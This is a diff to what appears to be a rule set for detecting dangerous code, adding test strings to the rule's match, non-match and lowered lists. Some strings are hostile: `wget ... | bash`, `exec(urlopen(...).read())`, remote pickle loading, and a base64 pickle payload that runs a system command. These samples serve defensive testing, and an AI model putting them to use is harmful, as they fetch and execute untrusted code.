@@ -1415,6 +1415,8 @@ RULES = [
             "```python\nimport pickle, zlib, requests\nblob = requests.get(MODEL_URL).content\nmodel = pickle.loads(zlib.decompress(blob))\n```\n",
             "```python\nstate = pickle.loads(base64.b64decode('gASVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=='))\n```\n",
             "```python\nobj = pickle.loads(zlib.decompress(urlopen(u).read()))\n```\n",
+            # the same one-liners given as steps, with an ellipsis inside the first span
+            "Set up with `wget -qO- https://... | bash` and then `python3 -c \"exec(urlopen(u).read())\"`.\n",
         ],
         must_not_match=[
             "```python\nresult = json.loads(open('data.json').read())\n```\n",
@@ -1422,6 +1424,8 @@ RULES = [
             "```js\nconst { execFile } = await import('node:util');\n```\n",
         ],
         lowered=["```js\nconst out = require('child_process').execSync('git rev-parse HEAD');\n```\n",
+                 # named in a prohibition: the ellipsis inside an earlier code span ends no sentence
+                 "You must never type `wget -qO- https://... | bash` nor `python3 -c \"exec(urlopen(u).read())\"` on CI hosts.\n",
                  # one's own cache read back through a decoder: a storage format, not a payload
                  "```python\n# 3. Memory optimization with compression\nimport pickle\nimport zlib\n\ndef retrieve_and_decompress(key):\n"
                  "    compressed_data = redis_client.get(key)\n    if compressed_data:\n        return pickle.loads(zlib.decompress(compressed_data))\n    return None\n```\n"],
